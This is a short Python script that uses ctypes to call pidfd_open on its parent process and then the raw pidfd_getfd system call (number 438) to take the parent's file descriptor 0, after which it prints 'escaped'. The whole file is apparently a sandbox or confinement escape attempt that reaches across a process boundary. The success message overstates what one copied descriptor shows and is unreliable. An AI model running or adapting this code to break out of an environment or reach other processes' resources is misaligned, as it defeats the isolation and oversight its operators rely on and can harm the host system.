import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    result = getattr(libc, name)(*args)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result
def syscall(x86, arm, *args):
    libc.syscall.restype = ctypes.c_long
    number = {"x86_64": x86, "aarch64": arm}[platform.machine()]
    result = libc.syscall(*map(ctypes.c_long, (number, *args)))
    if result < 0:
        raise OSError(ctypes.get_errno(), "syscall")
    return result

def parent():
    if os.getppid() <= 0:
        raise ProcessLookupError("the parent is out of sight")
    return os.getppid()

fd = os.pidfd_open(parent())
syscall(438, 438, fd, 0, 0)
print("escaped")
